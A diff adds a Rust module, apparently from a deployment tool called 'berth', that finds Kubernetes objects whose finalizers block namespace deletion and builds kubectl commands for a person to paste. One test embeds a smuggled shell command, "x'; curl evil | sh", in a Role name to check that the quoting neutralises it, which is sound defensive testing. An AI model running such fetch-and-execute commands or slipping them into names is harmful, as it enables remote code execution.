@@ -1,0 +1,167 @@
+//! What keeps a namespace from being gone: its objects that have a finalizer, and the command for a person.
+
+use futures::future::try_join_all;
+use k8s_openapi::api::core::v1::Pod;
+use kube::{
+    Client, ResourceExt,
+    api::ListParams,
+    core::{ApiResource, ObjectMeta},
+};
+
+use berth_workflows::activity_definitions::Remaining;
+
+use crate::{apply::api, failure::Failure, manifests::KINDS};
+
+/// A report travels in a history and is read by a person: so many objects are named, the rest counted.
+const MAX_NAMED: usize = 20;
+
+/// How a reason begins that names finalizers.
+const FINALIZERS: &str = "waits for the finalizer ";
+
+/// Which objects are looked for.
+#[derive(Clone, Copy, PartialEq, Eq)]
+pub(super) enum Which {
+    All,
+    BeingDeleted,
+}
+
+/// What was found, and the kinds that berth may not list (any more).
+#[derive(Default)]
+pub(super) struct Held {
+    pub(super) found: Vec<Remaining>,
+    pub(super) refused: Vec<&'static str>,
+}
+
+/// The objects with a finalizer, of every kind that berth may list; pods also while they end.
+pub(super) async fn held(client: &Client, namespace: &str, which: Which) -> Result<Held, Failure> {
+    let mut kinds: Vec<(ApiResource, &'static str, &'static str)> = vec![(ApiResource::erase::<Pod>(&()), "Pod", "")];
+    for kind in KINDS.iter().filter(|kind| kind.namespaced) {
+        // One kind in two versions is one list.
+        if !kinds.iter().any(|(_, name, group)| (*name, *group) == (kind.kind, kind.group)) {
+            kinds.push((kind.api_resource(), kind.kind, kind.group));
+        }
+    }
+    let lists = kinds.iter().map(|(resource, kind, group)| held_of(client, namespace, which, resource, kind, group));
+    let mut held = Held::default();
+    for (answer, (_, kind, _)) in try_join_all(lists).await?.into_iter().zip(&kinds) {
+        match answer {
+            Some(found) => held.found.extend(found),
+            None => held.refused.push(kind),
+        }
+    }
+    Ok(held)
+}
+
+/// Nothing if berth may not list them.
+async fn held_of(
+    client: &Client,
+    namespace: &str,
+    which: Which,
+    resource: &ApiResource,
+    kind: &str,
+    group: &str,
+) -> Result<Option<Vec<Remaining>>, Failure> {
+    let listed = match api(client, resource, true, namespace).list_metadata(&ListParams::default()).await {
+        Ok(listed) => listed,
+        Err(kube::Error::Api(status)) if matches!(status.code, 403 | 404) => return Ok(None),
+        Err(e) => return Err(Failure::kubernetes(format!("listing {}", resource.plural), e)),
+    };
+    let is_meant = |metadata: &ObjectMeta| match &metadata.deletion_timestamp {
+        Some(_) => kind == "Pod" || metadata.finalizers.is_some(),
+        None => which == Which::All && metadata.finalizers.is_some(),
+    };
+    let found = listed.items.iter().filter(|object| is_meant(&object.metadata));
+    Ok(Some(found.map(|object| entry(namespace, kind, group, &object.name_any(), object.finalizers())).collect()))
+}
+
+/// How an object is reported. Without a namespace it is one outside all.
+pub(super) fn entry(namespace: &str, kind: &str, group: &str, name: &str, finalizers: &[String]) -> Remaining {
+    let resource = kind.to_lowercase() + if group.is_empty() { "" } else { "." } + group;
+    let mut target = quoted(&format!("{resource}/{name}"));
+    if !namespace.is_empty() {
+        target = format!("{target} -n {namespace}");
+    }
+    let (reason, command) = match (finalizers, kind) {
+        ([], "Pod") => ("its containers have not ended", format!("kubectl delete {target} --force")),
+        ([], _) => ("was told to go and is still there", String::new()),
+        _ => (
+            "",
+            format!(r#"kubectl patch {target} --type=json -p='[{{"op":"remove","path":"/metadata/finalizers"}}]'"#),
+        ),
+    };
+    let reason =
+        if finalizers.is_empty() { reason.to_owned() } else { format!("{FINALIZERS}{}", finalizers.join(", ")) };
+    Remaining { object: format!("{kind}/{name}"), reason, command }
+}
+
+/// Finds what has a finalizer among the kinds that berth does not know.
+pub(super) fn listing(namespace: &str) -> String {
+    format!(
+        "kubectl api-resources --verbs=list --namespaced -o name | xargs -n1 kubectl get -n {namespace} --ignore-not-found \
+         -o custom-columns=KIND:.kind,NAME:.metadata.name,FINALIZERS:.metadata.finalizers"
+    )
+}
+
+/// Names of some kinds (roles) may have anything in them, and a person pastes this into a shell.
+fn quoted(text: &str) -> String {
+    let is_plain = |b: u8| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'.' | b'/' | b':' | b'_');
+    if text.bytes().all(is_plain) { text.to_owned() } else { format!("'{}'", text.replace('\'', r"'\''")) }
+}
+
+/// The finalizers that a report names.
+pub(super) fn finalizers(remaining: &Remaining) -> impl Iterator<Item = &str> {
+    remaining.reason.strip_prefix(FINALIZERS).into_iter().flat_map(|list| list.split(", "))
+}
+
+/// Whether a report is of an object of that kind.
+pub(super) fn is_of(remaining: &Remaining, kind: &str) -> bool {
+    remaining.object.strip_prefix(kind).is_some_and(|rest| rest.starts_with('/'))
+}
+
+/// So many as a person reads.
+pub(super) fn bounded(mut objects: Vec<Remaining>, namespace: &str) -> Vec<Remaining> {
+    let more = objects.len().saturating_sub(MAX_NAMED);
+    objects.truncate(MAX_NAMED);
+    if more > 0 {
+        let object = format!("{more} more of Namespace/{namespace}");
+        objects.push(Remaining { object, reason: "as those above".to_owned(), command: String::new() });
+    }
+    objects
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn stuck(kind: &str, group: &str, name: &str) -> Remaining {
+        entry("pr-1", kind, group, name, &["example.com/stuck".to_owned()])
+    }
+
+    #[test]
+    fn the_command_removes_the_finalizers_of_that_object() {
+        let remaining = stuck("ConfigMap", "", "x");
+        assert_eq!(remaining.object, "ConfigMap/x");
+        assert_eq!(remaining.reason, "waits for the finalizer example.com/stuck");
+        let patch = r#"'[{"op":"remove","path":"/metadata/finalizers"}]'"#;
+        assert_eq!(remaining.command, format!("kubectl patch configmap/x -n pr-1 --type=json -p={patch}"));
+        assert!(stuck("Deployment", "apps", "web").command.contains(" deployment.apps/web -n pr-1 "));
+        assert_eq!(finalizers(&remaining).collect::<Vec<_>>(), ["example.com/stuck"]);
+        assert!(is_of(&remaining, "ConfigMap") && !is_of(&remaining, "Config"));
+        let outside = entry("", "PriorityClass", "scheduling.k8s.io", "web-pr-1-1", &["example.com/stuck".to_owned()]);
+        assert!(outside.command.starts_with("kubectl patch priorityclass.scheduling.k8s.io/web-pr-1-1 --type=json"));
+    }
+
+    #[test]
+    fn a_name_with_a_shell_command_in_it_stays_a_name() {
+        let command = stuck("Role", "rbac.authorization.k8s.io", "x'; curl evil | sh").command;
+        assert!(command.contains(r"'role.rbac.authorization.k8s.io/x'\''; curl evil | sh' -n pr-1"), "{command}");
+    }
+
+    #[test]
+    fn of_too_many_objects_the_rest_are_counted() {
+        let objects: Vec<_> = (0..50).map(|n| stuck("ConfigMap", "", &n.to_string())).collect();
+        let bounded = bounded(objects, "pr-1");
+        assert_eq!(bounded.len(), MAX_NAMED + 1);
+        assert_eq!(bounded.last().unwrap().object, "30 more of Namespace/pr-1");
+    }
+}
